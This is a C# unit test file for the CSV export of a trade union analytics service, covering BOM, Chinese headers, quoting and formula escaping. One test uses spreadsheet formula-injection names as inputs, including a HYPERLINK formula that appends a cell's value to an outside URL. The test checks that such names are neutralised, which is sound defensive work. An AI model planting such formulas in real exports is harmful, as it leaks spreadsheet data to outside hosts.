using Coverage.Contracts;
using Coverage.Silo.Hierarchy;
using Coverage.Tests.Infrastructure;

namespace Coverage.Tests.Analytics;

public sealed class CsvExportTests
{
    private const string Awkward = "兴宁区\"星光\",快递\n联合工会";

    [Fact]
    public async Task ChildrenExportAsCsvWithByteOrderMarkChineseHeadersAndQuoting()
    {
        await using var app = await AnalyticsApp.StartAsync(now: DateTimeOffset.Parse("2026-11-20T01:30:00Z"));
        await app.Service<OrgRegistry>().PutAsync(new OrgInfo("GX0002", Awkward, OrgLevel.Grassroots, OrgKind.Joint, "450102"));
        await app.SetMembersAsync("GX0002", 120, employees: 160);

        var table = await app.GetCsvAsync("/api/v1/orgs/450102/children.csv");

        Assert.True(table.HasByteOrderMark);
        Assert.Equal("text/csv; charset=utf-8", table.ContentType);
        Assert.Equal(["代码", "名称", "层级", "类型", "上级代码"], table.Header.Take(5));
        Assert.Contains("会员人数", table.Header);
        Assert.Contains("入会率", table.Header);
        var row = Assert.Single(table.Rows);
        Assert.Equal(Awkward, table.Cell(0, "名称"));
        Assert.Equal("基层", table.Cell(0, "层级"));
        Assert.Equal("联合基层工会", table.Cell(0, "类型"));
        Assert.Equal("120", table.Cell(0, "会员人数"));
        Assert.Equal("0.75", table.Cell(0, "入会率"));
        Assert.Equal("2026-11-20 09:30", table.Cell(0, "本级数据截至"));
        Assert.Equal(table.Header.Count, row.Count);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")")]
    [InlineData("+1+1")]
    [InlineData("-2+3")]
    [InlineData("@SUM(A1:A2)")]
    public async Task ANameASpreadsheetWouldRunAsAFormulaIsExportedAsText(string name)
    {
        await using var app = await AnalyticsApp.StartAsync();
        await app.Service<OrgRegistry>().PutAsync(new OrgInfo("GX0003", name, OrgLevel.Grassroots, OrgKind.Enterprise, "450102"));
        await app.SetMembersAsync("GX0003", 10, employees: 20);

        var table = await app.GetCsvAsync("/api/v1/orgs/450102/children.csv");

        Assert.Equal("'" + name, table.Cell(0, "名称"));
        Assert.Equal("10", table.Cell(0, "会员人数"));
    }

    [Fact]
    public async Task AcceptHeaderAndCsvSuffixGiveTheSameTable()
    {
        await using var app = await AnalyticsApp.StartAsync();
        await app.SetMembersAsync("450102", 500);

        var bySuffix = await app.GetCsvAsync("/api/v1/orgs/450000/descendants.csv?level=county&sort=totals.members");
        var byHeader = await app.GetCsvAsync("/api/v1/orgs/450000/descendants?level=county&sort=totals.members", byAcceptHeader: true);

        Assert.Equal(111, bySuffix.Rows.Count);
        Assert.Equal("450102", bySuffix.Cell(0, "代码"));
        Assert.Equal(bySuffix.Header, byHeader.Header);
        Assert.Equal(bySuffix.Rows, byHeader.Rows);
    }

    [Fact]
    public async Task SearchResultsExportAsCsv()
    {
        await using var app = await AnalyticsApp.StartAsync();

        var table = await app.GetCsvAsync("/api/v1/orgs.csv?level=city&q=南宁");

        Assert.Equal(["450100", "南宁市", "市级", "行政区划", "450000"], Assert.Single(table.Rows));
    }
}
